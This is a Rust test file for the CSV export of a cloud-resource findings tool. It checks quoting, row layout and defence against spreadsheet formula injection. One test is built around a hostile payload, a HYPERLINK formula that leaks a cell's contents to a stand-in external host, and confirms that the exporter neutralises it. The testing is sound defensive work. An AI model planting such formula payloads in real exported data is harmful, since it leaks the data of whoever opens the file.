//! CSV: the form, and cells that would be formulas.

use troupe_estate::output::csv;
use troupe_estate::{Finding, Severity};

use crate::samples::{findings, money, problem, rows, volume, written};

/// Reads CSV as RFC 4180 has it.
fn read(text: &str) -> Vec<Vec<String>> {
    let (mut lines, mut line, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => line.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {
                assert_eq!(chars.next(), Some('\n'));
                line.push(std::mem::take(&mut cell));
                lines.push(std::mem::take(&mut line));
            }
            c => cell.push(c),
        }
    }
    assert!(!quoted && cell.is_empty() && line.is_empty(), "the last line ends");
    lines
}

#[test]
fn findings_are_a_line_each() {
    let text = written(|out| csv::findings(out, rows(findings())).unwrap());
    insta::assert_snapshot!(text.replace("\r\n", "\n"));
    let lines = read(&text);
    assert_eq!(lines.len(), 6);
    assert!(lines.iter().all(|line| line.len() == lines[0].len()));
}

#[test]
fn resources_are_a_line_each_with_their_rest_as_json() {
    let disk = volume("vol-1").tags([("Name".to_owned(), "a \"b\",\r\nc".to_owned())]).cost(Some(money(1.6)));
    let text = written(|out| csv::resources(out, rows(vec![disk.clone()])).unwrap());
    let lines = read(&text);
    let cell = |name: &str| lines[1][lines[0].iter().position(|it| it == name).unwrap()].as_str();
    assert_eq!((cell("name"), cell("cost"), cell("currency")), ("a \"b\",\r\nc", "1.6", "USD"));
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(cell("tags")).unwrap(),
        serde_json::to_value(&disk.tags).unwrap()
    );
    assert_eq!(cell("attributes"), "{\"size_gib\":20}");
    assert_eq!(cell("arn"), "");
}

#[test]
fn problems_are_a_line_each() {
    let mut many = problem("s3", "GetBucketTagging", Some("a"));
    many.others = vec!["b".to_owned()];
    let text = written(|out| csv::problems(out, &[many]).unwrap());
    insta::assert_snapshot!(text.replace("\r\n", "\n"), @r#"
    "provider","account","service","region","operation","kind","code","message","count","resources","hides"
    "aws",,"s3","us-east-1","GetBucketTagging","denied","UnauthorizedOperation","You are not authorized.",1,"a b",
    "#);
}

#[test]
fn no_cell_of_others_is_a_formula() {
    for first in ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"] {
        let hostile = format!("{first}HYPERLINK(\"http://a.example/?\"&A1)");
        let resource = volume(&hostile).name(&hostile);
        let mut finding =
            Finding::new(&hostile, &hostile, Severity::Low, resource.reference(), "").not_checked(&hostile);
        finding.fix.clone_from(&hostile);
        finding = finding.seen(&hostile, 1);
        let text = written(|out| {
            csv::findings(out, rows(vec![finding])).unwrap();
            csv::resources(out, rows(vec![resource])).unwrap();
        });
        for cell in read(&text).into_iter().flatten() {
            assert!(!cell.starts_with(first), "{cell:?} is a formula");
        }
        assert_eq!(text.matches(&format!("\"'{first}")).count(), 9, "{text}");
    }
    let negative = volume("a").cost(Some(money(-2.5)));
    let text = written(|out| csv::resources(out, rows(vec![negative])).unwrap());
    assert!(text.contains(",-2.5,\"USD\","), "numbers of ours stay numbers: {text}");
}
